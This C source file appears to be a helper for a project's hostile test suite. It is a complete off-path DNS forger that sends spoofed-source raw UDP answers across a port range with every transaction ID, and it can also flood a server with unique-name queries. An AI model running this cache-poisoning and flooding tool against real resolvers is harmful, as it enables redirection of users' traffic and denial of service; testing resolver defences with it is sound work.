/* The off-path forger of tests/hostile/dns_forgery.sh: sends one DNS answer
 * (hex, its ID patched per packet) from a spoofed source to every port of a
 * range with every ID, as fast as sendmmsg allows, through a raw socket.
 *
 *   dns_forgery_spray SRC_IP SRC_PORT DST_IP PORT_LO PORT_HI COUNT HEX [NAME_AT]
 *
 * COUNT packets (at most 1,048,576) go out: IDs 0..65535 in a random order,
 * cycling over the ports PORT_LO..PORT_HI. With NAME_AT, the 8 bytes of HEX
 * from that offset are replaced by the packet's number in hex (a flood of
 * unique names: the same tool sends the client's query flood). Prints
 * "sent N in U us". */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 512
#define MAX_COUNT (1 << 20)
#define MAX_PAYLOAD 1024

static unsigned char pkts[BATCH][28 + MAX_PAYLOAD];

int main(int argc, char **argv) {
    if (argc != 8 && argc != 9) {
        fprintf(stderr, "usage: %s SRC_IP SRC_PORT DST_IP PORT_LO PORT_HI COUNT HEX [NAME_AT]\n", argv[0]);
        return 2;
    }
    struct in_addr src, dst;
    if (!inet_aton(argv[1], &src) || !inet_aton(argv[3], &dst)) {
        fprintf(stderr, "bad address\n");
        return 2;
    }
    int sport = atoi(argv[2]), lo = atoi(argv[4]), hi = atoi(argv[5]);
    long count = atol(argv[6]);
    const char *hex = argv[7];
    size_t plen = strlen(hex) / 2;
    long name_at = argc == 9 ? atol(argv[8]) : -1;
    if (lo < 1 || hi > 65535 || lo > hi || count < 1 || count > MAX_COUNT || plen < 12 || plen > MAX_PAYLOAD ||
        (name_at >= 0 && (name_at < 12 || (size_t)name_at + 8 > plen))) {
        fprintf(stderr, "bad range, count or answer\n");
        return 2;
    }
    unsigned char payload[MAX_PAYLOAD];
    for (size_t i = 0; i < plen; i++) sscanf(hex + 2 * i, "%2hhx", &payload[i]);
    /* A random permutation of the 65,536 IDs (the forger does not know the ID). */
    static unsigned short ids[65536];
    for (int i = 0; i < 65536; i++) ids[i] = (unsigned short)i;
    for (int i = 65535; i > 0; i--) {
        unsigned int r;
        if (getrandom(&r, sizeof r, 0) != sizeof r) return 1;
        int j = (int)(r % (unsigned int)(i + 1));
        unsigned short t = ids[i]; ids[i] = ids[j]; ids[j] = t;
    }
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) { perror("socket"); return 1; }
    size_t len = 28 + plen;
    for (int b = 0; b < BATCH; b++) {
        unsigned char *p = pkts[b];
        memset(p, 0, 28);
        p[0] = 0x45; p[2] = len >> 8; p[3] = len & 0xff; p[8] = 64; p[9] = 17;
        memcpy(p + 12, &src, 4); memcpy(p + 16, &dst, 4);
        p[20] = sport >> 8; p[21] = sport & 0xff;
        p[24] = (8 + plen) >> 8; p[25] = (8 + plen) & 0xff; /* UDP checksum 0: none (IPv4) */
        memcpy(p + 28, payload, plen);
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    struct mmsghdr msgs[BATCH];
    struct iovec iov[BATCH];
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long sent = 0;
    int nports = hi - lo + 1;
    while (sent < count) {
        int n = 0;
        for (; n < BATCH && sent + n < count; n++) {
            long k = sent + n;
            unsigned short id = ids[k % 65536];
            int port = lo + (int)(k % nports);
            unsigned char *p = pkts[n];
            p[22] = port >> 8; p[23] = port & 0xff;
            p[28] = id >> 8; p[29] = id & 0xff;
            if (name_at >= 0) {
                char label[9];
                snprintf(label, sizeof label, "%08lx", k);
                memcpy(p + 28 + name_at, label, 8);
            }
            iov[n].iov_base = p; iov[n].iov_len = len;
            memset(&msgs[n], 0, sizeof msgs[n]);
            msgs[n].msg_hdr.msg_name = &to; msgs[n].msg_hdr.msg_namelen = sizeof to;
            msgs[n].msg_hdr.msg_iov = &iov[n]; msgs[n].msg_hdr.msg_iovlen = 1;
        }
        int r = sendmmsg(s, msgs, n, 0);
        if (r <= 0) { perror("sendmmsg"); return 1; }
        sent += r;
    }
    clock_gettime(CLOCK_MONOTONIC, &t1);
    long us = (t1.tv_sec - t0.tv_sec) * 1000000L + (t1.tv_nsec - t0.tv_nsec) / 1000;
    printf("sent %ld in %ld us\n", sent, us);
    return 0;
}
